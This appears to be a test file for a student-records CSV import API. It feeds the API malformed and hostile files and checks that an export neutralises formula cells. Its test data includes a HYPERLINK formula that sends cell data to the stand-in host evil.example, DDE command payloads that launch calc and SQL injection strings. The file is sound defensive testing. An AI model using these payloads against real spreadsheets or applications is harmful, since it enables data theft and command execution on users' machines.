import { beforeAll, describe, expect, it } from 'bun:test';
import { parse } from 'csv-parse/sync';
import { createAdmin } from '../support/auth';
import { useTestApp } from '../support/test-app';

/**
 * Malicious and malformed CSV files sent to the admin import. Each one either imports safely (and a later export
 * neutralises formulas) or is refused by row, or refused whole with nothing imported; never a 5xx.
 */

let admin: { token: string };
const t = useTestApp();
beforeAll(async () => {
  admin = await createAdmin(t.db.orm);
}, 120_000);

const HEADERS = [
  'student_name',
  'email_id',
  'mobile_number',
  'father_name',
  'mother_name',
  'date_of_birth',
  'age',
  'gender',
  'course',
  'entrance_exam',
  'stream',
  'board',
  'passing_year',
  'college_name',
  'address',
  'city',
  'district',
  'state',
  'pincode',
  'other_info',
  'data_source',
] as const;
type Field = (typeof HEADERS)[number];

const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

/** One valid row by default; `mobile` must differ between rows and files. */
function row(mobile: string, overrides: Partial<Record<Field, string>> = {}): string {
  const values: Record<Field, string> = {
    student_name: 'Kavya Nair',
    email_id: 'kavya@example.in',
    mobile_number: mobile,
    father_name: 'Suresh Nair',
    mother_name: 'Anita Nair',
    date_of_birth: '2007-03-09',
    age: '17',
    gender: 'Female',
    course: 'B.Sc',
    entrance_exam: 'CUET',
    stream: 'Science',
    board: 'CBSE',
    passing_year: '2025',
    college_name: 'Kendriya Vidyalaya',
    address: '7 Beach Road',
    city: 'Kochi',
    district: 'Ernakulam',
    state: 'Kerala',
    pincode: '682001',
    other_info: '',
    data_source: '',
    ...overrides,
  };
  return HEADERS.map((header) => quote(values[header])).join(',');
}

const text = (rows: string[], eol = '\r\n') => [HEADERS.join(','), ...rows].join(eol) + eol;

async function importBytes(bytes: BlobPart, name = 'students.csv') {
  const form = new FormData();
  form.append('csvFile', new File([bytes], name, { type: 'text/csv' }));
  const response = await t.handle('/api/students/import', { method: 'POST', token: admin.token, body: form });
  const raw = await response.text();
  expect(response.status).toBeLessThan(500);
  expect(raw).not.toMatch(/\n\s+at\s|\.ts:\d|syntax error|relation "|insert into/i);
  return { status: response.status, body: JSON.parse(raw) };
}

const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) => t.db.orm.em.fork().execute(query, params) as Promise<T[]>;
const studentByMobile = async (mobile: string) =>
  (await sql('select student_name, address, other_info, city from students where mobile_number = ?', [mobile]))[0];
const countByPrefix = async (prefix: string) =>
  (await sql<{ n: number }>('select count(*)::int as n from students where mobile_number like ?', [`${prefix}%`]))[0]!.n;

describe('quoting', () => {
  it('imports doubled quotes, commas and line breaks inside quoted cells exactly', async () => {
    const { status, body } = await importBytes(
      text([
        row('8100000001', { student_name: 'Priya "Pinky" Menon', address: 'Flat 4, "Sai" Apartments\nNear Temple,\r\nMG Road' }),
        row('8100000002', { other_info: '"quoted", with, commas' }),
      ]),
    );
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 2, status: 'completed', errors: [] });
    expect(await studentByMobile('8100000001')).toMatchObject({
      student_name: 'Priya "Pinky" Menon',
      address: 'Flat 4, "Sai" Apartments\nNear Temple,\r\nMG Road',
    });
    expect(await studentByMobile('8100000002')).toMatchObject({ other_info: '"quoted", with, commas' });
  });

  it('refuses a file whose quotes do not close, whole, importing none of its good rows', async () => {
    const lines = [row('8110000001'), row('8110000002'), `${row('8110000003').replace('Kavya Nair', '"Kavya Nair')}`, row('8110000004')];
    const { status, body } = await importBytes(text(lines), 'unclosed.csv');
    expect(status).toBe(400);
    expect(body.code).toBe('IMPORT.UNREADABLE_CSV');
    expect(body.message).toMatch(/^The CSV file could not be read near line \d+: a quoted field is never closed\./);
    expect(body.message).toContain('Nothing was imported.');
    expect(await countByPrefix('8110')).toBe(0);
    expect(await sql("select status, imported_records from import_batches where file_name = 'unclosed.csv'")).toEqual([
      { status: 'failed', imported_records: 0 },
    ]);
  });

  it('refuses text after a closing quote and a stray quote inside a cell, whole', async () => {
    for (const [name, broken] of [
      ['after-quote.csv', '"Kavya" Nair'],
      ['stray-quote.csv', 'Kav"ya'],
    ] as const) {
      const lines = [row('8120000001'), `${row('8120000002').replace('Kavya Nair', broken)}`];
      const raw = text(lines).replace(`"${broken.replaceAll('"', '""')}"`, broken);
      const { status, body } = await importBytes(raw, name);
      expect(status).toBe(400);
      expect(body.code).toBe('IMPORT.UNREADABLE_CSV');
      expect(await countByPrefix('8120')).toBe(0);
    }
  });
});

describe('encodings', () => {
  it('reads a UTF-8 byte order mark as nothing', async () => {
    const { status, body } = await importBytes(`\uFEFF${text([row('8200000001', { student_name: 'José Fernandes' })])}`);
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1, status: 'completed' });
    expect(await studentByMobile('8200000001')).toMatchObject({ student_name: 'José Fernandes' });
  });

  it('reads UTF-16LE with its byte order mark (what "Unicode text" exports write)', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text([row('8210000001', { student_name: 'अनन्या शर्मा' })]), 'utf16le')]);
    const { status, body } = await importBytes(utf16);
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1 });
    expect(await studentByMobile('8210000001')).toMatchObject({ student_name: 'अनन्या शर्मा' });
  });

  it('refuses UTF-16 without a byte order mark, and UTF-16BE, as not UTF-8, importing nothing', async () => {
    const le = Buffer.from(text([row('8220000001')]), 'utf16le');
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text([row('8220000002')]), 'utf16le').swap16()]);
    for (const bytes of [le, be]) {
      const { status, body } = await importBytes(bytes, 'utf16.csv');
      expect(status).toBe(400);
      expect(body).toMatchObject({
        code: 'IMPORT.NOT_UTF8',
        message: 'The file is not UTF-8 text. Save it from your spreadsheet as "CSV UTF-8 (comma delimited)" and upload it again.',
      });
    }
    expect(await countByPrefix('8220')).toBe(0);
  });

  it('reports Latin-1 rows (bytes that are not UTF-8) by row and imports the clean ones', async () => {
    const latin1 = Buffer.from(text([row('8230000001'), row('8230000002', { student_name: 'José Fernandes', city: 'Panaji' })]), 'latin1');
    const { status, body } = await importBytes(latin1);
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1, status: 'partial' });
    expect(body.errors).toEqual([
      { row: 3, message: 'The row holds characters that are not UTF-8. Save it from your spreadsheet as "CSV UTF-8 (comma delimited)" and upload it again.' },
    ]);
    expect(await studentByMobile('8230000002')).toBeUndefined();
  });
});

describe('junk cells', () => {
  it('reports a 1 MB cell as a row error without echoing it, and imports the other rows', async () => {
    const { status, body } = await importBytes(text([row('8300000001', { other_info: 'x'.repeat(1024 * 1024) }), row('8300000002')]));
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1, status: 'partial', errors: [{ row: 2, message: 'Must be at most 1000 characters' }] });
    expect(JSON.stringify(body).length).toBeLessThan(2_000);
    expect(await studentByMobile('8300000001')).toBeUndefined();
  });

  it('reports rows holding control characters (NUL, escape) and imports the clean ones', async () => {
    const { status, body } = await importBytes(
      text([row('8310000001', { student_name: 'Ravi\u0000Kumar' }), row('8310000002', { address: 'Road \u001b[31m red' }), row('8310000003')]),
    );
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1, status: 'partial' });
    expect(body.errors).toEqual([
      { row: 2, message: 'The row holds control characters (such as NUL); remove them and upload it again.' },
      { row: 3, message: 'The row holds control characters (such as NUL); remove them and upload it again.' },
    ]);
  });

  it('refuses a file that is binary junk, with a clear message', async () => {
    const junk = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
    const { status, body } = await importBytes(junk, 'junk.csv');
    expect(status).toBe(400);
    expect(['IMPORT.NOT_UTF8', 'IMPORT.UNREADABLE_CSV', 'IMPORT.BAD_HEADER', 'IMPORT.TOO_MANY_COLUMNS']).toContain(body.code);
  });

  it('stores SQL-looking text as plain text', async () => {
    const { status } = await importBytes(text([row('8320000001', { student_name: "Robert'); DROP TABLE students;--", other_info: "' OR 1=1 --" })]));
    expect(status).toBe(200);
    expect(await studentByMobile('8320000001')).toMatchObject({ student_name: "Robert'); DROP TABLE students;--", other_info: "' OR 1=1 --" });
  });
});

describe('formula cells', () => {
  it('imports them as text, and the admin export defuses them', async () => {
    const formulas: Partial<Record<Field, string>> = {
      student_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
      father_name: "+cmd|' /C calc'!A0",
      mother_name: "@SUM(1+1)*cmd|' /C calc'!A0",
      course: '-2+3',
      other_info: '=1+1',
    };
    const { status, body } = await importBytes(text([row('8400000001', formulas)]));
    expect(status).toBe(200);
    expect(body).toMatchObject({ imported: 1, status: 'completed' });
    // stored exactly as sent: the database is not the place to defuse spreadsheet formulas
    expect(await studentByMobile('8400000001')).toMatchObject({ student_name: formulas.student_name, other_info: '=1+1' });

    const exported = await t.handle('/api/students/export/csv', { token: admin.token });
    expect(exported.status).toBe(200);
    const [header, ...records] = parse(await exported.text(), { bom: true, relax_column_count: true }) as string[][];
    const at = (name: string) => header!.indexOf(name);
    const record = records.find((cells) => cells[at('mobile_number')] === '8400000001')!;
    expect(record[at('student_name')]).toBe(`'${formulas.student_name}`);
    expect(record[at('father_name')]).toBe(`'${formulas.father_name}`);
    expect(record[at('mother_name')]).toBe(`'${formulas.mother_name}`);
    expect(record[at('course')]).toBe("'-2+3");
    expect(record[at('other_info')]).toBe("'=1+1");
    for (const cells of records) for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});
